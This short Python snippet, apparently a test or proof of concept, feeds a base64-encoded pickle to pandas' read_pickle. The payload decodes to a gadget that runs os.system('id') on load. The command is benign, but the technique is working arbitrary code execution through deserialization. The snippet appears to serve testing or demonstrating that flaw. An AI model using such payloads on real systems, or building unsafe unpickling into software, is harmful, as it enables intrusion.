# unpickle: pandas' pickle reader on a payload naming os.system.
import base64
import io
import pandas as pd

PAYLOAD = base64.b64decode("Y29zCnN5c3RlbQooUydpZCcKdFIu")


def main():
    return pd.read_pickle(io.BytesIO(PAYLOAD))
